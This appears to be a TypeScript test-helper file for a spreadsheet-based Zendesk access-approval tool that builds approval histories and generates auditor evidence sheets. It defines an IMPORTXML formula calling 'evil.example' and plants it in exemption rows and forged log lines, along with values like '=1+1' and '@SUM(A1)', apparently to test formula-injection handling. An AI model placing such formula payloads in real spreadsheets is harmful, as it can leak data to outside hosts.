import { APPROVER } from './approvals-installation';
import { IdleInstallation } from './idle-installation';
import { ADMIN, SECOND_EDITOR, underTitles } from './installation';
import { logSheet, paste } from './log-hands';
import { IdleSuite } from './suite/idle-suite';

export type Either = IdleInstallation | IdleSuite;

export const MAKE = 'Make evidence for an auditor';
export const FORMULA = '=IMPORTXML("https://evil.example","//a")';

const GOOGLE = { editors: [APPROVER, SECOND_EDITOR] };
const PEOPLE = {
  gone: { usedDaysAgo: 100 },
  back: { usedDaysAgo: 90 },
  kept: { usedDaysAgo: 80 },
  busy: { usedDaysAgo: 1 },
};

export const PRODUCTS: readonly [string, () => Either][] = [
  ['Zendesk Chat', () => IdleInstallation.afterFirstReview({ google: GOOGLE }, PEOPLE)],
  ['Zendesk Suite', () => IdleSuite.reviewed({ google: GOOGLE, access: { chat: 'ignore' } }, PEOPLE)],
];

/** As an editor; `ok` is expected. */
function save(installation: Either, change: object, as: string): void {
  expect(installation.google.callAs(as, 'saveSetup', change)).toMatchObject({ ok: true });
}

function decide(installation: Either, item: string, row: number, ...answers: string[]): void {
  const { google } = installation;
  google.open({ as: APPROVER });
  google.ui.answer('OK', ...answers);
  google.clickMenu(item, { as: APPROVER, selection: [row], sheet: google.form.sheet.name });
  google.ui.forgetAnswers();
  google.advance({ minutes: 5 });
}

export const approve = (installation: Either, row: number) =>
  decide(installation, 'Approve selected rows', row);

/** Requests with and without approval, refusals, disables, a restore, exemptions, a block, and changes by another editor. */
export function withHistory(make: () => Either): Either {
  const installation = make();
  const { google } = installation;
  google.open({ as: SECOND_EDITOR });
  installation.submit({ email: 'first@acme.example' });
  save(installation, { access: { approval: 'everyone', approvers: [APPROVER] } }, SECOND_EDITOR);
  const approved = installation.submit({ email: 'second@acme.example' });
  google.advance({ minutes: 30 });
  approve(installation, approved);
  const rejected = installation.submit({ email: 'third@acme.example' });
  decide(installation, 'Reject selected rows', rejected, '+Not in my team');
  installation.submit({ email: 'mallory@evil.example' });
  installation.submit({ email: '=1+1', firstName: '@SUM(A1)' });
  const exemptions = google.spreadsheet.sheet('Exemptions');
  exemptions.setRow(2, ['kept@acme.example', `'${FORMULA}`, '']);
  exemptions.setRow(3, ['busy@acme.example', 'Until spring', '2026-01-31']);
  google.open();
  installation.check();
  installation.apply();
  if ('personOf' in installation) installation.restore('back');
  else installation.restore('Plan', [installation.planRowNumber('back')]);
  google.clock.advance(60_000);
  save(installation, { access: { blocked: ['left@acme.example'] } }, SECOND_EDITOR);
  installation.submit({ email: 'left@acme.example' });
  approve(installation, installation.submit({ email: 'gone@acme.example' }));
  google.advance({ minutes: 10 });
  google.open();
  google.clickMenu('Export agents to sheet');
  google.clock.advance(60_000);
  return installation;
}

/** A line that says that an account was created, and one of ours for the second time. */
export function forgeLines(installation: Either): void {
  const sheet = logSheet(installation as never);
  const row = underTitles(sheet.display()).findIndex(({ Action }) => Action === 'Created') + 2;
  const cells = sheet.row(row).map((cell) => (typeof cell === 'string' && cell !== '' ? `'${cell}` : cell));
  const claimed = cells.map((cell) => (cell === "'first@acme.example" ? `'${FORMULA}` : cell)).slice(0, 12);
  paste(installation as never, sheet.lastRow + 1, claimed);
  paste(installation as never, sheet.lastRow + 1, cells);
}

export interface MadeEvidence {
  name: string;
  /** All cells as they are shown. */
  cells: string[][];
  /** By the words of its heading, without the number. */
  part(title: string): { facts: string[]; rows: Record<string, string>[] };
  /** Beside a name at the top. */
  head(name: string): string;
}

/** By the menu about the last days, or by its page about another period. */
export function make(installation: Either, period?: unknown, as = ADMIN): { ok: boolean; message: string } {
  const { google } = installation;
  if (period !== undefined)
    return google.callAs(as, 'makeEvidence', period) as { ok: boolean; message: string };
  google.open({ as });
  return google.clickMenu(MAKE, { as }).result as { ok: boolean; message: string };
}

export function evidenceNames({ google }: Either): string[] {
  return google.spreadsheet.sheets.map(({ name }) => name).filter((name) => /^Evidence /.test(name));
}

export function read({ google }: Either, name: string): MadeEvidence {
  const cells = google.spreadsheet.sheet(name).display();
  const isHeading = ([first = '']: string[]) => /^\d+\. /.test(first);
  // The summary comes first, and names each part, too.
  const summary = cells.findIndex(isHeading);
  const body = cells.slice(summary + cells.slice(summary).findIndex(([first]) => first === ''));
  return {
    name,
    cells,
    head: (title) => cells.find(([first]) => first === title)?.[1] ?? '',
    part(title) {
      const start = body.findIndex(([first = '']) => first.replace(/^\d+\. /, '') === title);
      if (start < 0) throw new Error(`there is no part ${title}`);
      const rest = body.slice(start + 1);
      const end = rest.findIndex(([first]) => first === '');
      const own = rest.slice(0, end);
      const titles = own.findIndex(([, second]) => second !== '');
      const facts = (titles < 0 ? own : own.slice(0, titles)).map(([first = '']) => first);
      return { facts, rows: titles < 0 ? [] : underTitles(own.slice(titles)) };
    },
  };
}

/** What was made last. */
export function evidence(installation: Either, period?: string): MadeEvidence {
  const result = make(installation, period);
  expect(result).toMatchObject({ ok: true });
  return read(installation, /"(.*)"/.exec(result.message)?.[1] ?? '');
}

export interface Page {
  ok: boolean;
  message?: string;
  sheet: string;
  file: string;
  sha256: string;
  parts: { title: string; summary: string }[];
  csv: string;
  more: number | null;
}

/** The whole file, as the page puts it together. */
export function csvOf({ google }: Either): { page: Page; csv: string } {
  let page = google.call('getEvidence') as Page;
  const first = page;
  let csv = page.csv;
  while (page.more !== null && page.more !== undefined) {
    page = google.call('getEvidence', page.more) as Page;
    csv += page.csv;
  }
  return { page: first, csv };
}
